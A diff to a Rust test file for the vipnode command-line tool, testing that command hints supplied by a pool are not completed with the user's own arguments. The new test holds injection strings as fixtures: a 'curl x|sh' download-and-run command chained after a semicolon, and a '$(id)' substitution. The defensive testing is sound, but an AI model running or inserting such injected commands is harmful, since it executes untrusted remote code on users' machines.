@@ -371,11 +371,23 @@ fn a_command_in_a_hint_works_as_it_is_pasted() {
          wss://pool.example --tls-ca ca.pem`; see `vipnode demo`."
     );
     assert_eq!(
-        hint_of(&["client", "--pool", "mypool"], "Run `vipnode account payout 0x12`."),
-        "Run `vipnode account payout 0x12 mypool`."
+        hint_of(&["client", "--pool", "mypool"], "Run `vipnode account payout ADDRESS`."),
+        "Run `vipnode account payout ADDRESS mypool`."
     );
     let host = format!("enode://{}@10.0.0.1:30303", "0a".repeat(64));
     assert_eq!(hint_of(&["client", &host], "Run `vipnode account show`."), "Run `vipnode account show`.");
+}
+
+/// A hint may come from a pool. Completed, such a command would look like one of vipnode's own.
+#[test]
+fn a_command_with_values_is_not_completed() {
+    let line = ["account", "show", "ws://127.0.0.1:1", "--keystore", "k"];
+    for command in
+        ["vipnode account payout 0x12", "vipnode account link --chain 1; curl x|sh #", "vipnode account unlink $(id)"]
+    {
+        let hint = format!("Run `{command}`.");
+        assert_eq!(hint_of(&line, &hint), hint);
+    }
 }
 
 #[test]
